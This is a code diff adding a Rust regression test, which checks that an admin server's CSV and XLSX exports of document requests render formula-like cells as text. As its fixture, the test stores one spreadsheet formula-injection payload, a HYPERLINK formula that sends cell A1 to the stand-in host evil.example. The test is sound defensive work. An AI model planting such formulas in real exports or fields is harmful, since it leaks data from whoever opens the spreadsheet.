@@ -1654,3 +1654,40 @@ async fn reproject_fills_columns_added_by_an_upgrade() {
         .unwrap();
     assert_eq!(masked, (Some("127101••••••0003".into()), Some("S*** A***".into())));
 }
+
+// ------------------------------------------------------------------ issue 12: hardening
+
+/// Regression, issue 12 item 7: a cell that a spreadsheet would read as a
+/// formula (`= + - @`, tab, CR first) is written as text: a `'` before it
+/// in CSV, a string cell in XLSX. Numbers, negative ones too, stay numbers.
+#[tokio::test]
+async fn exports_never_hand_a_spreadsheet_a_formula() {
+    let f = fixture();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    let id = push_request(&f.state, "1271010101900003");
+    // A kiosk-supplied agency as it might have been stored by an older
+    // server (the agency is a free-text field of a kiosk's event).
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"klik")"#;
+    f.state
+        .db
+        .write(|tx| {
+            tx.execute("UPDATE requests SET agency = ?1 WHERE doc_id = ?2", rusqlite::params![formula, id])
+                .map_err(crate::store::StoreError::from)
+        })
+        .unwrap();
+    let (status, _, csv_bytes) = download(&f, "/admin/permohonan.csv?periode=2025-11").await;
+    assert_eq!(status, StatusCode::OK);
+    let rows: Vec<Vec<String>> = csv::Reader::from_reader(&csv_bytes[..])
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect();
+    assert!(rows[0].contains(&format!("'{formula}")), "{rows:?}");
+    assert!(rows.iter().flatten().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{rows:?}");
+    let (_, _, xlsx) = download(&f, "/admin/permohonan.xlsx?periode=2025-11").await;
+    assert!(xlsx_rows(xlsx.clone())[1].contains(&formula.to_owned()), "the XLSX keeps the text as a string cell");
+    use calamine::{Reader, Xlsx};
+    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
+    let name = book.sheet_names()[0].clone();
+    let formulas = book.worksheet_formula(&name).unwrap();
+    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "a formula in the sheet");
+}
